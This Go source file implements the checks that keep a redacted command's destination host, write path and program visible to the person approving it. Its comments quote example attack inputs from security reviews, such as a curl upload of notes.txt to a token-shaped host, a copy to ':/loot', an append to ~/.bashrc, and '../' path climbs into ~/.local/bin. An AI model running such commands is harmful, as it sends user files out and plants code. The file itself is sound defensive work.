package domain

import (
	"slices"
	"strings"
)

// What a redaction leaves in view, so that the person approving a call
// sees which host it contacts, where it writes and what it runs (the
// seventh attack review): the checks RedactPath, redactURL and
// replaceClipped make before they hide a span.

// clip says how replaceClipped treats a pattern's matches.
type clip struct {
	// scheme: a first word and one space may be hidden too ("Basic x").
	scheme bool
	// ownWord: the value may be a word of its own, not part of the
	// name's: one that reads as a path is shown (readsAsPath), and one
	// that is an option, a host or a program (ownWordInView).
	ownWord bool
	// name is the submatch of the option, variable or header name (0:
	// none): a name that says its value is a file or a program is shown
	// with its value (refName).
	name int
	// shape: the match is a token shape; one that runs on into a name
	// (".com", ".sh": a host or a file named like a token) is shown.
	shape bool
	// exposed: variables the text expands where their value decides
	// what it does (exposedVars); the name's value is shown.
	exposed func() map[string]bool
	// shell: the text is a shell command's; a value in the word that is
	// the program it runs is shown (programWord).
	shell bool
	// spaced: a secret name's value is hidden only after a separator
	// with a blank in it ("X-Token: x"), but an Authorization or Cookie
	// header's glued too: a ':' stuck to a word that ends in a secret
	// name is a git refspec's or an image's tag (git push origin
	// fix/token-expiry:main, the ninety-sixth review), not a header.
	spaced bool
	// member: the match is a JSON, YAML or TOML member's or an
	// assignment with a quoted name: its name is data, never the
	// program (a '(' or '{' in a script's quotes read as a subshell's
	// made it one: the hundred-and-first review); in a shell command a
	// value after an unquoted '>' is a redirection's target, and a
	// quoted name glued to ':' that starts a word outside quotes is a
	// refspec's side ("token-expiry":"main").
	member bool
}

// startsWord reports whether s[n:] starts a word: at the text's start or
// after a blank, a quote, '{', ',', '(', ';' or '=' (--header=Cookie:x;
// not after the '/' or '-'
// of a branch's or an image's name: fix/session-cookie:main, the
// ninety-ninth review).
func startsWord(s string, n int) bool {
	return n == 0 || strings.IndexByte(" \t\n'\"{,(;=", s[n-1]) >= 0
}

// headerName reports whether n names an Authorization or Cookie header.
func headerName(n string) bool {
	for _, h := range []string{"authorization", "proxy-authorization", "cookie", "set-cookie"} {
		if strings.EqualFold(n, h) {
			return true
		}
	}
	return false
}

// runsOn reports whether s continues at e with a dot and a letter or digit,
// or with a letter, a digit, '-' or '_': what looked like a token is part
// of a longer name (a host name whose labels look like a JWT's, a script
// named sk-….sh, AKIAABCDEFGHIJKLMNOP-x.com: an AWS key's shape is twenty
// characters, and one that goes on is no key; the hundred-and-ninety-first
// review).
func runsOn(s string, e int) bool {
	if e < len(s) && (identByte(s[e]) || s[e] == '-') {
		return true
	}
	return e+1 < len(s) && s[e] == '.' && (s[e+1] >= 'a' && s[e+1] <= 'z' || s[e+1] >= 'A' && s[e+1] <= 'Z' || s[e+1] >= '0' && s[e+1] <= '9')
}

// hostAt reports whether the token-shaped match s[a:e] is, or is in, the
// name of a host where a command takes one: the run of DNS bytes around it
// follows "://" or "user@", or is followed by ':' or '/' (scp's and git's
// host:path, a URL without its scheme), and is a DNS name (dnsName: labels
// of letters, digits and '-', the last of letters). A JWT's shape takes a
// whole label as its signature, so eyJhbGci.eyJzdWIi.com, a name anyone
// can register, was hidden whole in https://…/upload and deploy@…:/loot
// (the hundred-and-ninety-first review). A real JWT is no such name: its
// signature holds digits, '_' or '-', or is longer than a label. A name
// followed by '@' is a URL's user, where a token goes: not a host.
func hostAt(s string, a, e int) bool {
	h0, h1, ok := dnsRun(s, a, e)
	if !ok {
		return false
	}
	after := h0 >= 3 && s[h0-3:h0] == "://" || h0 > 0 && s[h0-1] == '@'
	before := h1 < len(s) && (s[h1] == ':' || s[h1] == '/')
	return (after || before) && dnsName(s[h0:h1], true)
}

// dnsRun returns the run of DNS bytes (letters, digits, '-', '.') around
// s[a:e]; not ok when it is longer than a DNS name (253 bytes: the walks
// stop there, so that matches in one long run, X..X..X, do not each read
// all of it) or followed by '@' (a URL's user, where a token goes).
func dnsRun(s string, a, e int) (h0, h1 int, ok bool) {
	dns := func(c byte) bool {
		return c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c >= '0' && c <= '9' || c == '-' || c == '.'
	}
	const most = 253
	h0, h1 = a, e
	for h0 > 0 && dns(s[h0-1]) && e-h0 <= most {
		h0--
	}
	for h1 < len(s) && dns(s[h1]) && h1-h0 <= most {
		h1++
	}
	return h0, h1, h1-h0 <= most && !(h1 < len(s) && s[h1] == '@')
}

// jwtHost reports whether the JWT-shaped match s[a:e] ends a host's name
// wherever it stands: curl and wget take a host without a scheme, nc and
// telnet as a word of its own (curl -sT notes.txt eyJhbGci.eyJzdWIi.com
// PUTs the file there), and hostAt's markers around it are not written
// (the hundred-and-ninety-third review). It is one when the run of DNS
// bytes around it is a DNS name (dnsName) that ends with the match, or
// with the root's '.' after it, whose last label (the match's signature,
// not empty: an unsigned JWT's) is a top-level domain's: letters only, at most maxTLD of them. A real
// JWT's signature is base64url of 32 bytes or more: 43 characters or
// longer, and all letters about once in ten thousand.
func jwtHost(s string, a, e int) bool {
	if !strings.HasPrefix(s[a:e], "eyJ") {
		return false
	}
	h0, h1, ok := dnsRun(s, a, e)
	if !ok || h1 != e && !(h1 == e+1 && s[e] == '.') {
		return false
	}
	last := s[strings.LastIndexByte(s[a:e], '.')+a+1 : e]
	return last != "" && len(last) <= maxTLD && dnsName(s[h0:h1], true)
}

// maxTLD is the longest top-level domain of letters only that jwtHost
// reads as one (the root zone's longest are 18: northwesternmutual).
const maxTLD = 24

// lastDotDot returns the end of the last ".." element of p, or -1.
func lastDotDot(p string) int {
	for e := len(p); e > 0; {
		s := strings.LastIndexByte(p[:e], '/') + 1
		if p[s:e] == ".." {
			return e
		}
		e = s - 1
	}
	return -1
}

// insideStore reports whether the path p, cleaned lexically, has a
// sensitive element.
func insideStore(p string) bool {
	var elems []string
	for e := range strings.SplitSeq(p, "/") {
		switch {
		case e == "" || e == ".":
		case e == ".." && len(elems) > 0 && elems[len(elems)-1] != "..":
			elems = elems[:len(elems)-1]
		default:
			elems = append(elems, e)
		}
	}
	return slices.ContainsFunc(elems, sensitiveSegment)
}

// isUserinfo reports whether s can be a URL's userinfo as a command line
// carries it unquoted: RFC 3986's unreserved characters, percent-encoding,
// ':' and the sub-delimiters that are not the shell's syntax (!*+,=). A
// quote, white space, '|', '&', ';', '<', '>', '(', ')', '$', '`', '\',
// '{', '}', '^', '@' or anything else makes it not one.
func isUserinfo(s string) bool {
	for i := 0; i < len(s); i++ {
		c := s[i]
		if !(c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c >= '0' && c <= '9' || strings.IndexByte("-._~%:!*+,=", c) >= 0) {
			return false
		}
	}
	return true
}

// hasDotDot reports whether s has a ".." path element. A span that has
// one is never hidden: from a word the kernel opens as a path
// (`cp x X-Token:/../../.local/bin/git`, `cp x a://b?c=/../../x`) it
// climbs out of the prefix in view to a place the reader would not see.
func hasDotDot(s string) bool {
	for e := range strings.SplitSeq(s, "/") {
		if e == ".." {
			return true
		}
	}
	return false
}

// readsAsPath reports whether a secret's value that may be a word of its
// own reads as a path: it starts with '/', '~' or '.' (which no token
// shape, hex or JWT does). Such a value is shown: `tee -a X-Token: ~/.bashrc`
// and `cp x bearer /home/u/.local/bin` write where they name, and a
// command's path (`--password-command /tmp/x.sh`) is what runs. The cost: a
// base64 secret that starts with '/' stays in view.
func readsAsPath(s string) bool {
	return s != "" && (s[0] == '/' || s[0] == '~' || s[0] == '.')
}

// refNameSuffixes end the names of options and variables whose value says
// where a secret is, what makes one, or where it goes, not the secret: a
// file, a directory, a program (--password-file, RESTIC_PASSWORD_COMMAND,
// msmtp's --passwordeval, a credential helper), a host or URL it is sent
// to, a destination it is written to (TOKEN_URL, --token-url,
// AUTH_TOKEN_HOST, SECRET_DEST, --token-out: the thirty-fourth review, a
// request hid which host a command sent to and where it wrote). Their
// values are shown, and redacted as any text is (a URL's credentials, a
// query's token=).
var refNameSuffixes = []string{"file", "files", "path", "dir", "command", "cmd", "helper", "process", "program", "script", "exec", "eval",
	"url", "uri", "endpoint", "host", "hostname", "server", "addr", "address", "dest", "destination", "out", "output", "email",
	"name", "names", "ref", "arn",
	"credential_provider", "credential-provider", "credentials_provider", "credentials-provider",
	"credential_providers", "credential-providers", "credentials_providers", "credentials-providers", "application_credentials"}

// urlOriginEnd is, for a value of a secret-named URL (a name ending in url,
// uri or endpoint), the length of its scheme and authority and the "/"
// after them, which stay in view, when more follows (a path, a query, a
// fragment, which are hidden); 0 otherwise (nothing to hide).
func urlOriginEnd(name, v string) int {
	l := strings.ToLower(name)
	if !strings.HasSuffix(l, "url") && !strings.HasSuffix(l, "uri") && !strings.HasSuffix(l, "endpoint") {
		return 0
	}
	start := 0
	if i := strings.IndexByte(v, ':'); i > 0 && isScheme(v[:i]) && i+1 < len(v) && (v[i+1] == '/' || v[i+1] == '\\') {
		// The authority follows the scheme's slashes, however many, and
		// backslashes as a browser reads them (https:/evil.example/…,
		// https:\\evil.example: the thirty-eighth review).
		start = i + 1
		for start < len(v) && (v[start] == '/' || v[start] == '\\') {
			start++
		}
	}
	end := strings.IndexAny(v[start:], "/\\?#")
	if end < 0 {
		return 0
	}
	end += start
	if v[end] == '/' || v[end] == '\\' {
		end++
	}
	if end >= len(v) {
		return 0
	}
	return end
}

// isScheme reports whether s is a URL scheme (RFC 3986: a letter, then
// letters, digits, "+", "-" or ".").
func isScheme(s string) bool {
	for i, r := range s {
		if !(r >= 'a' && r <= 'z' || r >= 'A' && r <= 'Z' || i > 0 && (r >= '0' && r <= '9' || r == '+' || r == '-' || r == '.')) {
			return false
		}
	}
	return s != ""
}

// urlWordEnd is where the URL starting at a in s ends: at white space, a
// quote or the shell's syntax (tokenEnd stops earlier, at the first byte a
// token does not hold: "#", "\\"). A quote ends it although the shell may
// read on (Xo"Xb…" is one word): whether a quote opens a part of this word
// or closes a string the URL sits in (echo "TOKEN_URL=https://h/x" ; curl
// … ; echo "y") cannot be told here, and hiding up to the next quote would
// hide the commands between them.
func urlWordEnd(s string, a int) int {
	e := a
	for e < len(s) && !strings.ContainsRune(" \t\n'\"`;&|<>()", rune(s[e])) {
		e++
	}
	return e
}

// refName reports whether name (an option, variable or header name that
// matched secretName) names a reference rather than a secret.
func refName(name string) bool {
	l := strings.ToLower(name)
	// A flag that takes no value: the secret comes from standard input
	// (docker login --password-stdin, gh auth login --with-token), and the
	// next word is something else (where the secret goes).
	if strings.HasSuffix(l, "stdin") || strings.HasPrefix(strings.TrimLeft(l, "-"), "with-") {
		return true
	}
	// A secrets manager's identifier of a secret (AWS's SecretId and
	// --secret-id), not Vault's secret_id, a credential: camel case or
	// an option's (the ninety-sixth review).
	if strings.HasSuffix(name, "Id") || strings.HasPrefix(name, "-") && strings.HasSuffix(l, "-id") {
		return true
	}
	return slices.ContainsFunc(refNameSuffixes, func(s string) bool { return strings.HasSuffix(l, s) })
}
